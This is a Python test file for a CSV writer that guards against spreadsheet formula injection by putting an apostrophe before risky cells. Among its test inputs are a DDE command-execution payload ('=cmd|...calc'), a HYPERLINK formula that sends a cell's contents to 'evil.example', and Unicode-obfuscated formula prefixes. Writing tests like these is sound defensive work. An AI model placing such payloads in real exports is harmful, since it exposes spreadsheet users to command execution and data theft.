"""CSV: every cell a text, whatever a spreadsheet makes of texts."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fettled.web.csv_text import line

#: As a spreadsheet sees the beginning of a cell.
STARTS = re.compile(
    r"[\s\"'\x00-\x1f\u00a0\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]"
)


def cells(text: str, delimiter: str = ",", **how: object) -> list[str]:
    """Read one record as a spreadsheet would."""
    (record, *_) = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, **how)
    return record


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "+1",
        "-1+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '"=1',
        "'=1",
        '" \t=1',
        "\u00a0=1",
        "\u00ad=1",
        "\u202e=1",
        "\u2066\u2069=1",
        "\ufeff=1",
        "\u200b=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        '=HYPERLINK("https://evil.example?"&A1)',
        "=1\n=2",
        "\x00=1",
        "\t1",
        "\r1",
    ],
)
def test_no_cell_is_a_formula(value: str) -> None:
    """
    An apostrophe stands before it, which a spreadsheet takes for "this is text".

    Seen to fail with only the first character judged: spaces, quotes and the wide forms passed.
    """
    (read,) = cells(line([value]))
    assert read.startswith("'")


@pytest.mark.parametrize("value", ["a;=1+1", "a\n=1", "a\r\n @x", "a\t-1", 'a";=1', "a|+1"])
@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_no_cell_is_one_for_a_reader_that_separates_otherwise(value: str, delimiter: str) -> None:
    """
    A spreadsheet of another country splits at semicolons, and minds no quotes within.

    Seen to fail without `_WITHIN`.
    """
    text = line(["a door", value])
    for record in csv.reader(io.StringIO(text), delimiter=delimiter, quoting=csv.QUOTE_NONE):
        begun = [cell.strip('" ') for cell in record]
        assert not [cell for cell in begun if STARTS.match(cell) and not cell.startswith("'")]


@given(st.lists(st.text(), min_size=1))
def test_it_is_csv_whatever_it_holds(values: list[str]) -> None:
    """As many cells come out as went in, and none begins a formula."""
    read = cells(line(values))
    assert len(read) == len(values)
    assert not [cell for cell in read if STARTS.match(cell) and not cell.startswith("'")]


def test_what_is_harmless_stays_as_it_is() -> None:
    """Quoted after RFC 4180, with CR LF; what is no text is written as JSON has it."""
    values = ['say "hi"', "a, b", "two\nlines", 5, None, True, {"a": "b"}, {}, "a-b = c@d"]
    text = line(values)
    assert text.endswith('"\r\n')
    assert cells(text) == [
        'say "hi"', "a, b", "two\nlines", "5", "", "true", '{"a":"b"}', "", "a-b = c@d"
    ]  # fmt: skip
